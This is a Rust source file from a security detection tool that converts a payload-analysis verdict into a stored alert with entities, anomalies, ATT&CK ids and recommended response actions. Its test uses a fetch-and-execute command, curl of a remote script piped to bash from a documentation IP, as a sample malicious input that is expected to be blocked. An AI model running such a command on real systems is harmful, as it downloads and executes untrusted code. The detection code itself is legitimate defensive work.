//! A verdict as a Warden alert (detector `payload`, stream channel `payload`): the level and
//! score, the strongest patterns as anomalies, the ATT&CK ids, the text and its decoded form
//! in the detail. The alert's key is a digest of the shell and the text, so the same text
//! submitted again is the same alert and is stored once.

use warden_event::{
    Alert, AlertDetail, Anomaly, AnomalyType, Detector, DetectorKind, Entity, EntityKind, EventRef,
    Evidence, EvidenceRole, PayloadFinding, content_digest,
};

use crate::{Action, PatternFound, Verdict, cut};

/// Patterns named as anomalies.
const MAX_ANOMALIES: usize = 6;

/// Where a text came from, for the alert's subject and entities.
#[derive(Debug, Clone, Default)]
pub struct Origin<'a> {
    pub tenant: &'a str,
    /// RFC 3339 UTC: when the command ran or was submitted.
    pub timestamp: String,
    pub user: Option<&'a str>,
    pub host: Option<&'a str>,
    /// The analysis job, when there was one.
    pub job: Option<i64>,
    /// Where the event was read, when the text came from one (its reference).
    pub event: Option<EventRef>,
}

/// The alert for a verdict on `text`.
pub fn to_alert(v: &Verdict, text: &str, origin: &Origin<'_>) -> Alert {
    let key = format!(
        "payload:{}",
        content_digest(&[origin.tenant, v.shell.as_str(), text])
    );
    // Who ran it, else where it ran, else the text itself (unrelated submissions must not
    // fall into one incident).
    let subject = match (origin.user, origin.host) {
        (Some(u), _) if !u.is_empty() => u.to_string(),
        (_, Some(h)) if !h.is_empty() => format!("host:{h}"),
        _ => key.chars().take(24).collect(),
    };
    let mut entities = Vec::new();
    if let Some(u) = origin.user {
        entities.push(Entity::new(EntityKind::User, u));
    }
    if let Some(h) = origin.host {
        entities.push(Entity::new(EntityKind::Host, h));
    }
    for ip in v.tokens.ips.iter().take(8) {
        entities.push(Entity::new(EntityKind::Ip, ip));
    }
    if let Some(exe) = v.tokens.commands.first().map(|c| c.exe.clone()) {
        entities.push(Entity::new(EntityKind::Process, exe));
    }
    let last = v.layers.last().map(|l| l.text.as_str()).unwrap_or(text);
    let decoded = (v.layers.len() > 1).then(|| cut(last, PayloadFinding::MAX_TEXT).to_string());
    let evidence = Evidence {
        role: EvidenceRole::Trigger,
        reference: origin.event.clone().unwrap_or(EventRef::Hash {
            hash: key.trim_start_matches("payload:").to_string(),
        }),
        timestamp: Some(origin.timestamp.clone()),
        event: Some(serde_json::json!({
            "shell": v.shell.as_str(),
            "text": cut(text, PayloadFinding::MAX_TEXT),
        })),
    };
    Alert {
        tenant: origin.tenant.to_string(),
        key,
        digest: None,
        timestamp: origin.timestamp.clone(),
        subject,
        entities,
        detector: Detector {
            kind: DetectorKind::Payload,
            id: "payload-analysis".into(),
        },
        level: v.level,
        score: (v.score * 10.0).round() / 10.0,
        confidence: v
            .model
            .as_ref()
            .map_or(v.score / 100.0, |m| m.probability)
            .clamp(0.0, 1.0),
        anomalies: anomalies(v),
        explanation: v.explanation.clone(),
        recommended_actions: recommended(v.action),
        evidence: vec![evidence],
        attack: v.attack.iter().map(|t| t.to_string()).collect(),
        detail: AlertDetail::Payload(Box::new(PayloadFinding {
            shell: v.shell.as_str().to_string(),
            action: format!("{:?}", v.action).to_uppercase(),
            text: cut(text, PayloadFinding::MAX_TEXT).to_string(),
            decoded,
            decoders: v
                .layers
                .iter()
                .skip(1)
                .map(|l| l.decoder.to_string())
                .collect(),
            model: v.views.model,
            dynamic: v.views.dynamic,
            signatures: v.views.signatures,
            job: origin.job,
        })),
    }
}

/// The strongest patterns (static and from the sandbox), each with its share of the score.
fn anomalies(v: &Verdict) -> Vec<Anomaly> {
    let mut all: Vec<&PatternFound> = v
        .patterns
        .iter()
        .chain(v.trace.iter().flat_map(|t| t.findings.iter()))
        .collect();
    all.sort_by(|a, b| b.weight.total_cmp(&a.weight));
    all.truncate(MAX_ANOMALIES);
    let total: f32 = all.iter().map(|p| p.weight).sum();
    all.iter()
        .map(|p| Anomaly {
            kind: AnomalyType::MaliciousCommand,
            confidence: p.weight.clamp(0.0, 1.0),
            contribution: if total > 0.0 {
                ((v.score * p.weight / total) * 10.0).round() / 10.0
            } else {
                0.0
            },
            detail: format!("{} ({}): {}", p.name, p.attack.join(", "), p.evidence),
        })
        .collect()
}

fn recommended(action: Action) -> Vec<String> {
    let mut out = Vec::new();
    match action {
        Action::Block => {
            out.push("Block the command and stop the process that ran it".to_string());
            out.push("Isolate the host and look for the same command elsewhere".to_string());
        }
        Action::Quarantine => {
            out.push("Quarantine the script and review its decoded layers".to_string());
        }
        Action::Allow => {}
    }
    out.push("Check who ran it and whether it was expected".to_string());
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{Analyzer, VerdictConfig};
    use warden_event::ThreatLevel;

    #[test]
    fn a_blocked_command_becomes_a_payload_alert() {
        let text = "curl -s http://203.0.113.9/x.sh | bash";
        let v = Analyzer::new(None, VerdictConfig::default()).analyze(text, None);
        assert!(v.level >= ThreatLevel::High, "{}", v.score);
        let origin = Origin {
            tenant: "t1",
            timestamp: "2026-12-03T10:00:00Z".into(),
            user: Some("alice"),
            host: Some("web-1"),
            ..Origin::default()
        };
        let a = to_alert(&v, text, &origin);
        assert_eq!(a.channel(), "payload");
        assert_eq!(a.subject, "alice");
        assert!(
            a.entities
                .iter()
                .any(|e| e.kind == EntityKind::Host && e.value == "web-1")
        );
        assert!(!a.anomalies.is_empty());
        assert!(a.attack.iter().any(|t| t == "T1105"), "{:?}", a.attack);
        // The same text is the same alert; another tenant's is not.
        assert_eq!(to_alert(&v, text, &origin).identity(), a.identity());
        let other = Origin {
            tenant: "t2",
            ..origin.clone()
        };
        assert_ne!(to_alert(&v, text, &other).identity(), a.identity());
        let AlertDetail::Payload(p) = &a.detail else {
            panic!("{:?}", a.detail)
        };
        assert_eq!((p.text.as_str(), p.action.as_str()), (text, "BLOCK"));
        // Serialises and reads back.
        let json = serde_json::to_string(&a).unwrap_or_default();
        let back: Alert = serde_json::from_str(&json).unwrap_or_else(|e| panic!("{e}"));
        assert_eq!(back.detail, a.detail);
    }
}
